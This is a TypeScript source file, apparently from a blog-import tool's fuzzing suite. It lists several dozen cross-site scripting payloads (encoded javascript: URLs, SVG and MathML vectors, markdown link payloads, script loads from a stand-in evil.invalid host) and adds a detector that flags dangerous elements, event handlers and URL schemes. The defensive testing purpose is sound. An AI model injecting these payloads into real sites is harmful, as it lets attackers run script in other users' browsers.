// Script smuggled into a post, in the forms browsers run: script elements,
// event handlers on every kind of element, javascript:/vbscript:/data: URLs
// in every attribute that takes a URL and in their encoded spellings, SVG and
// MathML payloads. Written for postbound's import fuzzing (each line here is
// a fact about HTML parsing, in our own words).
import type { Element, Root } from 'hast';
import { visit } from 'unist-util-visit';

export const XSS_VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>',
  '<script type="module">import("//evil.invalid")</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img src=x onerror\n=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<p onclick="alert(1)">click</p>',
  '<div onmouseover="alert(1)">hover</div>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="DATA:text/html,x">a</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<math><a xlink:href="javascript:alert(1)">m</a></math>',
  '<math><mi href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">s</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">s</div>',
  '<div style="width: expression(alert(1))">s</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '![x](javascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<isindex action="javascript:alert(1)" type=image>',
];

/** Attributes that take a URL, as hast names them. */
const URL_PROPERTIES = new Set([
  'href',
  'src',
  'action',
  'formAction',
  'data',
  'poster',
  'srcSet',
  'xLinkHref',
  'background',
  'cite',
  'codeBase',
]);
/** Elements that run, load or redirect on their own. */
const ACTIVE = new Set([
  'script',
  'iframe',
  'object',
  'embed',
  'base',
  'form',
  'meta',
  'link',
  'style',
  'isindex',
  'template',
  'frame',
  'frameset',
  'applet',
]);

/**
 * What in a parsed page (hast) could run script: active elements, event
 * handlers, and javascript:/vbscript:/data: URLs (control characters and
 * spaces removed first, as browsers do). `allowScript` accepts the page's own scripts,
 * styles and forms (a theme's search box).
 */
export function dangersIn(tree: Root, allowScript: (node: Element) => boolean = () => false): string[] {
  const found: string[] = [];
  visit(tree, 'element', (node: Element) => {
    if (
      ACTIVE.has(node.tagName.toLowerCase()) &&
      !(node.tagName === 'script' && allowScript(node)) &&
      // a link is active by its scheme (a canonical address may hold "javascript" in a post's slug)
      !(node.tagName === 'link' && !/^(javascript|vbscript|data):/i.test(squeeze(String(node.properties.href ?? '')))) &&
      !(node.tagName === 'meta' && !node.properties.httpEquiv) &&
      !(node.tagName === 'style' && allowScript(node)) &&
      !(node.tagName === 'form' && allowScript(node))
    )
      found.push(`<${node.tagName}>`);
    for (const [name, value] of Object.entries(node.properties)) {
      if (/^on[a-z]/i.test(name)) found.push(`<${node.tagName} ${name}>`);
      const url = squeeze(Array.isArray(value) ? value.join(' ') : String(value));
      if (URL_PROPERTIES.has(name) && /^(javascript|vbscript|livescript):|^data:(text|image\/svg|application)/i.test(url))
        found.push(`<${node.tagName} ${name}="${url.slice(0, 40)}">`);
      if (name === 'style' && /expression\(|javascript:/i.test(url)) found.push(`<${node.tagName} style="${url.slice(0, 40)}">`);
    }
  });
  return found;
}

/** `text` without control characters and spaces, which browsers skip inside a URL's scheme. */
const squeeze = (text: string) => [...text].filter((c) => c.charCodeAt(0) > 0x20).join('');
